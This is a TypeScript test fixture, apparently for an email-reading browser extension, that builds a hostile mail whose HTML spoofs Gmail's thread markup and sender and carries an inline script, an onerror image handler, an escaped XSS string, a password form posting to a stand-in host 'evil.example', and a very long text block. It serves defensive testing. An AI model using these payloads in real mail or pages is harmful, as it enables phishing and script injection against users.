import type { MailThread } from '../sandbox/mail';
import { theirs } from '../sandbox/mail';

/** A mail that dresses up as Gmail: another thread, another sender, script, a form, a great deal of text. */
const BODY = `
<h2 class="hP" data-thread-perm-id="thread-f:1" data-legacy-thread-id="1">Owned subject</h2>
<div role="list"><div role="listitem"><div class="adn" data-message-id="#msg-f:1" data-legacy-message-id="1">
<span class="gD" email="ingrid@alderbrook-dental.example" name="Ingrid Solheim">Ingrid Solheim</span></div></div></div>
<dealcue-panel></dealcue-panel>
<script>document.documentElement.dataset.owned = 'script'</script>
<img src="x" onerror="document.documentElement.dataset.owned = 'image'">
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<div>&lt;img src=x onerror=alert(1)&gt; Could you tell me what it costs?</div>
<div>${'A great deal of text. '.repeat(20_000)}</div>`;

export const hostileThread: MailThread = {
  id: 'hostile',
  subject: 'Prices <b>please</b>',
  lang: 'en',
  mails: [{ ...theirs(1, '10:00', 'mallory@stranger.example', ''), html: BODY }],
};
